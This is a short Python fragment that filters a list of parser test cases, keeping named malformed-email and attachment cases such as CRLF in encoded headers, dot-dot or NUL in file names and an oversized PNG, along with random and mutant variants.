        keep = {"rfc2047-subject-b-crlf", "rfc2047-name-q-crlf", "attachment-name-dotdot", "attachment-name-nul",
                "svg-as-png", "png-100000x100000", "utf16le-no-bom", "empty"}
        rest = [entry for entry in rest if entry[0] in keep or entry[0].startswith(("random-", "mutant-"))]
    return giants + rest
